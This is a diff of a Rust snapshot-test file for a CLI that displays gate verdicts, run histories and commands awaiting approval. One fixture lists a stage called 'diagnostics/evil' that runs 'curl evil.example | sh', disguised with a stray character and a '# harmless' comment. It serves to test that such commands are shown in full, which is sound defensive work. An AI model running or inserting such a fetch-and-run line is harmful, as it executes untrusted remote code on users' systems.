@@ -1,9 +1,12 @@
 //! Answers to single questions.
+//!
+//! Each as a person sees it, and narrow where columns would break.
 
 use super::{RUN, at, look, pipeline, plain, root, run, stage, task};
 use crate::client::render::{answer, daemon, history, workspace};
 use crate::model::digest::{CommandSet, Digest, InputDigest};
-use crate::model::report::runs::{RunAnswer, RunList, RunRecord};
+use crate::model::evidence::RunRecord;
+use crate::model::report::runs::{RunAnswer, RunList};
 use crate::model::report::{
     AllowAnswer, AllowedCommand, DoctorAnswer, DoctorCheck, ExplainAnswer, ExplainedProject,
     ExplainedRule, ExplainedStage, GateAnswer, GateProject, Health,
@@ -19,6 +22,7 @@ fn gate_says_which_run_it_trusts() {
         green: None,
         projects: vec![
             GateProject {
+                detail: None,
                 task_id: task("0101-web"),
                 verdict: Verdict::Pass,
                 input_digest: Some(digest),
@@ -27,6 +31,7 @@ fn gate_says_which_run_it_trusts() {
                 reused: true,
             },
             GateProject {
+                detail: None,
                 task_id: task("0104"),
                 verdict: Verdict::Unknown,
                 input_digest: None,
@@ -96,18 +101,18 @@ fn runs_are_columns_or_in_forty_columns_pairs_of_lines() {
     };
     let list = RunList {
         runs: vec![
-            record(RUN, Some(Verdict::Pass), Some(Cause::Gate)),
-            record("foreign-run", None, None),
+            record(RUN, Verdict::Pass, Some(Cause::Gate)),
+            record("foreign-run", Verdict::Unknown, None),
         ],
     };
     insta::assert_snapshot!(plain(&history::runs(&list, &look(None))), @"
     3d0103be     + pass      + succeeded  0101-web  diagnostics  gate    12s     2m ago
-    foreign-run  -           + succeeded  0101-web  diagnostics  -       12s     2m ago
+    foreign-run  ? unknown   + succeeded  0101-web  diagnostics  -       12s     2m ago
     ");
     insta::assert_snapshot!(plain(&history::runs(&list, &look(Some(40)))), @"
     + pass      3d0103be
       0101-web, gate, 12s, 2m ago
-    -           foreign-run
+    ? unknown   foreign-run
       0101-web, -, 12s, 2m ago
     ");
 }
@@ -153,7 +158,7 @@ fn commands_to_be_allowed_are_shown_in_full() {
         ],
     };
     insta::assert_snapshot!(plain(&workspace::commands(&allow, &look(None))), @"
-    /home/ann/src/shop would run 2 commands:
+    /srv/ann/src/shop would run 2 commands:
         diagnostics/lint  npm run lint
       + diagnostics/evil  curl evil.example | sh �# harmless
       command set 4be14be14be1…
